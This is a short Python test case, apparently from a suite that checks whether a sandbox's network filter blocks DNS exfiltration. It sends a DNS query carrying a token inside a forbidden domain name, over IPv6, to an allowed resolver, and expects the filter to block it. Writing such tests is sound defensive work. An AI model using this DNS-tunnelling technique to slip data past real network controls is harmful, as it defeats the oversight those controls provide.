#!/usr/bin/python3
# id: d30g_dns6
# title: a forbidden name asked for over IPv6 at a resolver nobody configured
# needs: user
# expect: block
# why: the host has the same resolver under another address
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW6, 53)); time.sleep(.3)
attempt(f, dst=(ALLOW6,), chan=('dns',))
